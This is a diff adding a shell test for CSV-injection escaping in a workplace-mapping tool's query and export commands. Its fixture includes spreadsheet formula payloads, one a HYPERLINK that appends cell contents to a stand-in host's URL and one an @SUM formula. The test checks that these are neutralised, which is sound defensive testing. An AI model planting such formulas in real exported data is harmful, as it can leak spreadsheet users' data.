@@ -86,6 +86,36 @@ sqlite3 "$DB" "SELECT audience || ' ' || rows FROM audit WHERE command = 'export
   | grep -qx 'internal 80' || fail "audit row of the internal export"
 ok
 
+# CSV injection: a name a spreadsheet would run as a formula (=, +, -, @)
+# is written with an apostrophe inside its cell, by query and by export;
+# a number that starts with a minus sign is left alone.
+FDB=$T/formula.sqlite
+"$B" -q init "$FDB"
+cat > "$T/formula.csv" <<'CSV'
+id,name,sector,lon,lat,observed,risk
+F1,"=HYPERLINK(""http://x.example/?""&A1,""x"")",karaoke_bar,98.98,18.79,2025-01-01,2.0
+F2,-Minus Bar,brothel,98.981,18.791,2025-01-01,1.5
+F3,-12.5,brothel,98.982,18.792,2025-01-01,1.5
+F4,@SUM(A1),brothel,98.983,18.792,2025-01-01,1.5
+F5,Plain Bar,brothel,98.984,18.792,2025-01-01,1.5
+CSV
+"$B" -q import "$FDB" "$T/formula.csv"
+"$B" -q query "$FDB" --bbox 98,18,99,19 --format csv > "$T/fq.csv"
+grep -qx 'F1,"'"'"'=HYPERLINK(""http://x.example/?""&A1,""x"")",karaoke_bar,2.000,medium,98.980000,18.790000,,2025-01-01' "$T/fq.csv" \
+  || fail "query CSV formula: $(cat "$T/fq.csv")"
+grep -q "^F2,'-Minus Bar," "$T/fq.csv" || fail "query CSV minus"
+grep -q "^F3,-12.5," "$T/fq.csv" || fail "query CSV number touched"
+grep -q "^F4,'@SUM(A1)," "$T/fq.csv" || fail "query CSV at-sign"
+grep -q "^F5,Plain Bar," "$T/fq.csv" || fail "query CSV plain"
+"$B" -q export "$FDB" workplaces -o "$T/fe.csv" --audience partner
+grep -q ",F1,\"'=HYPERLINK(" "$T/fe.csv" || fail "export CSV formula: $(cat "$T/fe.csv")"
+grep -q ",F4,'@SUM(A1)," "$T/fe.csv" || fail "export CSV at-sign"
+grep -q ',F3,"\?-12.5"\?,' "$T/fe.csv" || fail "export CSV number touched"
+# GeoJSON is not a spreadsheet format: names go out as they are.
+"$B" -q export "$FDB" workplaces -o "$T/fe.geojson" --audience partner
+grep -q '"name":"=HYPERLINK(' "$T/fe.geojson" || fail "GeoJSON name changed"
+ok
+
 # The independent validators.
 if ! command -v node >/dev/null 2>&1 || [ ! -d "$SRC/tests/node/node_modules/@placemarkio/check-geojson" ] \
    || [ ! -d "$SRC/tests/node/node_modules/geojson-validation" ]; then
